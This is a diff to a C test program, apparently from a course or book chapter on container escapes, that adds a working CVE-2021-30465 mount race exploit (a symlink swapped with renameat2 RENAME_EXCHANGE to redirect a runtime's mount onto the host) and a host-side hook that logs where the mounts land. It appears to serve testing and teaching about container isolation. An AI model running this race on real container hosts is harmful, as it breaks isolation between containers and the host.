@@ -13,11 +13,13 @@
  *     /escape --true
  *     /escape --handle FILE
  *     /escape --add-key DESCRIPTION PAYLOAD | --read-key DESCRIPTION | --remove-key DESCRIPTION
+ *     /escape --mounts-at FOLDER LOG
  *
  * (what the host runs with `exec` for the runtime-exe escape) does nothing;
  * (on the host, for the shocker escape) prints FILE's handle: its type and bytes in hex;
  * (on the host, for the keyring escape) puts a key into root's user keyring, prints its
- * payload, takes it out again.
+ * payload, takes it out again;
+ * (on the host, as a createRuntime hook, for the mount race) logs a container's mounts at FOLDER.
  *
  * Built by chapter-08 with `cc -static` (no library is needed inside the container).
  */
@@ -366,6 +368,55 @@ static int runtime_exe_escape(const char *device, const char *inode, const char 
     return blocked("no process of the runtime's file seen inside");
 }
 
+/* CVE-2021-30465: in a folder the container shares with another one (a volume), a
+   folder `race/dir` and a symlink `race/link` to the host's FOLDER; renameat2(2)
+   RENAME_EXCHANGE swaps the two names as fast as it can, while the runtime creates the
+   other container, whose config mounts a tmpfs on race/dir. A runtime that looks at the
+   path, then mounts onto the path, follows the symlink out of the root at times. Until
+   the host writes race/stop (or 60 s). Where the mounts landed, only the host can tell. */
+static int mount_race_escape(const char *volume, const char *folder) {
+    if (chdir(volume) != 0) return blocked("chdir to the shared folder");
+    if (mkdir("race", 0755) != 0 || mkdir("race/dir", 0755) != 0) return blocked("mkdir in the shared folder");
+    if (symlink(folder, "race/link") != 0) return blocked("symlink in the shared folder");
+    int ready = open("race/ready", O_WRONLY | O_CREAT, 0644);
+    if (ready < 0) return blocked("tell the host we race");
+    close(ready);
+    time_t end = time(NULL) + 60;
+    unsigned long swaps = 0;
+    while (access("race/stop", F_OK) != 0 && time(NULL) < end) {
+        for (int i = 0; i < 1000; i++, swaps++) {
+            if (renameat2(AT_FDCWD, "race/dir", AT_FDCWD, "race/link", RENAME_EXCHANGE) != 0) return blocked("renameat2(RENAME_EXCHANGE)");
+        }
+    }
+    fprintf(verdict, "raced %lu swaps of race/dir and a symlink to %s\n", swaps, folder);
+    return 0;
+}
+
+/* The host side of the mount race, as a createRuntime hook (it runs in the runtime's
+   namespaces while the container's init waits, mounts made, before pivot_root): reads the
+   container's state on stdin, and appends to LOG each line of the init's mount table
+   whose mount point is FOLDER or below it. */
+static int mounts_at(const char *folder, const char *log) {
+    char state[8192];
+    size_t length = fread(state, 1, sizeof state - 1, stdin);
+    state[length] = 0;
+    char *pid = strstr(state, "\"pid\"");
+    if (!pid || !(pid = strchr(pid, ':'))) { fprintf(stderr, "no pid in the state\n"); return 1; }
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%ld/mountinfo", strtol(pid + 1, NULL, 10));
+    FILE *table = fopen(path, "r"), *out = fopen(log, "a");
+    if (!table || !out) { perror(table ? log : path); return 1; }
+    char line[4096], point[4096];
+    size_t prefix = strlen(folder);
+    while (fgets(line, sizeof line, table)) {
+        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1) continue;
+        if (strncmp(point, folder, prefix) == 0 && (point[prefix] == 0 || point[prefix] == '/')) fputs(line, out);
+    }
+    fclose(table);
+    fclose(out);
+    return 0;
+}
+
 /* name_to_handle_at(2): what the 2014 exploit guessed by brute force, asked for. */
 static int print_handle(const char *file) {
     struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
@@ -382,6 +433,7 @@ int main(int argc, char **argv) {
     if (argc == 2 && strcmp(argv[1], "--true") == 0) return 0;  /* what the host execs */
     if (argc == 3 && strcmp(argv[1], "--handle") == 0) return print_handle(argv[2]);
     if (argc == 4 && strcmp(argv[1], "--add-key") == 0) return host_key(argv[1], argv[2], argv[3]);
+    if (argc == 4 && strcmp(argv[1], "--mounts-at") == 0) return mounts_at(argv[2], argv[3]);
     if (argc == 3 && (strcmp(argv[1], "--read-key") == 0 || strcmp(argv[1], "--remove-key") == 0)) return host_key(argv[1], argv[2], "");
     if (argc < 3) { fprintf(stderr, "usage: escape VERDICT NAME [ARGUMENT...]\n"); return 2; }
     verdict = fopen(argv[1], "w");
@@ -407,6 +459,7 @@ int main(int argc, char **argv) {
     if (strcmp(name, "raw-socket") == 0 && count == 1) return raw_escape(arg[0]);
     if (strcmp(name, "setuid") == 0 && count == 1) return setuid_escape(arg[0]);
     if (strcmp(name, "runtime-exe") == 0 && count == 4) return runtime_exe_escape(arg[0], arg[1], arg[2], arg[3]);
+    if (strcmp(name, "mount-race") == 0 && count == 2) return mount_race_escape(arg[0], arg[1]);
     fprintf(verdict, "n/a unknown escape %s\n", name);
     return 2;
 }
